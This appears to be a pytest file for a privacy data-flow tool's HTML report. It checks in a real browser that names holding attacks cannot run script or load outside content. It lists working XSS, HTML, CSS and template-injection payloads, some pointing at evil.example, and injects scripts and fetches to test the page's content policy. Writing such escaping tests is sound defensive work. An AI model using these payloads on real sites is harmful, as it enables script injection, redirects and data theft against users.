"""Names that mean to run, load or send something stay names: in the file, and in a real browser."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import pytest

from browsers import opened, started
from conftest import TODAY
from drawn_flows import pages
from flowcheck.project import load
from flowcheck.render.flow_mark import flow_mark
from flowcheck.render.frame import printable
from flowcheck.render.map_html import map_html
from hostile import STRINGS
from projects import FILES

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    from flowcheck.engine import Report

ATTACKS = (
    "</script><script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "'><svg onload=window.pwned=1>",
    "</style><style>*{display:none}</style>",
    "}*{background:url(https://evil.example/x)}",
    "</title><script src=https://evil.example/x.js></script>",
    "]]></text><script>window.pwned=1</script>",
    "--><iframe src=https://evil.example>",
    "<form action=https://evil.example><input type=submit>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "a\u202eb",
    *(text for text in STRINGS if text and printable(text) == text),
)
TAGS = """
html head meta link title style body a header h1 p b span dl div dt dd form label input
select option optgroup button main section h2 h3 h4 table caption colgroup col thead tbody tr th td
aside article ol ul li blockquote code small i q bdi footer script svg g path rect text noscript
"""


def project() -> dict[str, str]:
    """A company in which everything that has a name or an address is called by the attacks."""
    flows: list[dict[str, Any]] = []
    vendors: list[dict[str, Any]] = []
    for number, text in enumerate(ATTACKS):
        flows.append(
            {
                "id": f"evil<-{number}/->",
                "to": f"vendor{number}",
                "data": ["email_address", f"term{number}"],
                "purpose": "service_provision",
                "subject": "trial_user",
                "owner": text,
                "transit": "tls_1_2",
            }
        )
        vendors.append(
            {
                "id": f"vendor{number}",
                "name": text,
                "legal_entity": text,
                "role": "advertising_network",
                "url": text,
                "contract": {"signed": "2026-01-01", "url": text},
            }
        )
    terms = {
        f"term{n}": {"label": text, "parents": "contact_data"} for n, text in enumerate(ATTACKS)
    }
    statements = [
        {"id": f"s{n}", "section": text, "quote": [text], "note": text, "permit": "share"}
        | {"data": "email_address", "recipient": f"vendor{n}"}
        for n, text in enumerate(ATTACKS)
    ]
    systems = [{"id": "evil", "name": ATTACKS[0], "owner": ATTACKS[1], "flows": flows}]
    waiver = {"rule": "FC103", "flow": "evil<-1/->", "reason": ATTACKS[0], "owner": ATTACKS[1]}
    value = {
        "systems": systems,
        "vendors": vendors,
        "vocabulary": {"data": terms},
        "statements": statements,
        "waivers": [{**waiver, "until": "2026-12-31"}],
    }
    policy = FILES["inventory/policy.yaml"].replace("controller: Acme", f"controller: {_yaml(0)}")
    policy = policy.replace("title: Privacy Policy", f"title: {_yaml(1)}\n  url: {_yaml(10)}", 1)
    text = FILES["inventory/policy.txt"] + "\n".join(ATTACKS) + "\n"
    return {
        **FILES,
        "inventory/policy.yaml": policy,
        "inventory/policy.txt": text,
        "inventory/evil.yaml": json.dumps(value),
    }


def _yaml(number: int) -> str:
    return json.dumps(ATTACKS[number])


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    root = tmp_path_factory.mktemp("evil")
    for name, content in project().items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")
    return load(root, today=TODAY).lint()


@pytest.fixture(scope="module")
def file(report: Report, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("map") / "map.html"
    path.write_text(map_html(report, pages(report.facts)), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    yield from started()


class Tags(HTMLParser):
    """Collects every tag with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_no_name_makes_a_tag_an_attribute_or_a_link(file: Path) -> None:
    tags = Tags(file.read_text(encoding="utf-8")).found
    assert {tag for tag, _ in tags} <= set(TAGS.split())
    assert [tag for tag, _ in tags].count("script") == 1
    assert [tag for tag, _ in tags].count("style") == 1
    for tag, attributes in tags:
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert attributes.get("src") is attributes.get("action") is attributes.get("srcset") is None
        address = attributes.get("href") or "#"
        assert tag == "link" or re.match(r"#|https?://[\w.]+(/|$)", address), address


def test_every_name_is_there_to_be_read(browser: Browser, file: Path, report: Report) -> None:
    with opened(browser, file) as page:
        shown = page.locator("#flows tbody").inner_text()
        for vendor in report.facts.inventory.vendors.values():
            assert printable(" ".join(vendor.name.split())) in " ".join(shown.split())
        assert page.locator("#flows tbody tr:visible").count() == len(ATTACKS) + 4
        assert _pwned(page) is None


def test_flows_of_such_names_are_searched_filtered_and_shown(
    browser: Browser, file: Path, report: Report
) -> None:
    flows = {flow.to: flow for flow in report.facts.inventory.flows}
    with opened(browser, file) as page:
        for number, text in enumerate(ATTACKS):
            mark = flow_mark(flows[f"vendor{number}"].id)
            page.evaluate("mark => { location.hash = mark; }", mark)
            page.wait_for_function(
                "mark => document.querySelector('article.on h3')?.id === 'h-' + mark", arg=mark
            )
            page.fill("input[type=search]", text)
            assert page.locator(f'tr[data-mark="{mark}"]').is_visible()
        page.fill("input[type=search]", "")
        for facet in ("data", "recipient"):
            values = page.locator(f"select[name={facet}] option").evaluate_all(
                "all => all.map(o => o.value)"
            )
            for value in (value for value in values if re.match("term|vendor", value)):
                page.select_option(f"select[name={facet}]", value)
                assert page.locator("#flows tbody tr:visible").count() == 1
            page.select_option(f"select[name={facet}]", "")
        page.emulate_media(media="print")
        assert _pwned(page) is None


def _pwned(page: Page) -> object:
    return page.evaluate("window.pwned ?? null")


def test_what_still_got_in_could_do_nothing(browser: Browser, file: Path) -> None:
    context = browser.new_context()
    page = context.new_page()
    refused: list[str | None] = []
    page.on("requestfailed", lambda request: refused.append(request.failure))
    page.goto(file.as_uri())
    blocked = page.evaluate(
        """async () => {
          const blocked = [];
          addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
          const add = (tag, values) => document.body.append(
            Object.assign(document.createElement(tag), values));
          add("script", { textContent: "window.pwned = 1" });
          add("script", { src: "https://evil.example/x.js" });
          add("style", { textContent: "body { color: red }" });
          add("img", { src: "https://evil.example/x.png" });
          add("iframe", { src: "https://evil.example/" });
          document.body.insertAdjacentHTML("beforeend", "<p style='color:red' onclick='x()'>x</p>");
          await fetch("https://evil.example/").catch(() => 0);
          await new Promise((done) => setTimeout(done, 300));
          return blocked;
        }"""
    )
    assert {word.partition("-")[0] for word in blocked} == {
        "script",
        "style",
        "img",
        "frame",
        "connect",
    }
    assert _pwned(page) is None
    assert set(refused) == {"csp"}
    context.close()


def test_what_is_asked_for_by_javascript_is_no_link(file: Path) -> None:
    text = file.read_text(encoding="utf-8")
    assert "javascript:window.pwned=1" in text
    assert not re.search(r'href="(javascript|data:text)', text)


def test_the_attacks_are_among_what_is_rendered(report: Report) -> None:
    written: Callable[[str], bool] = map_html(report, []).__contains__
    assert written("&lt;script&gt;window.pwned=1&lt;/script&gt;")
    assert written("&amp;lt;script&amp;gt;")
    assert not written("<img src=x")
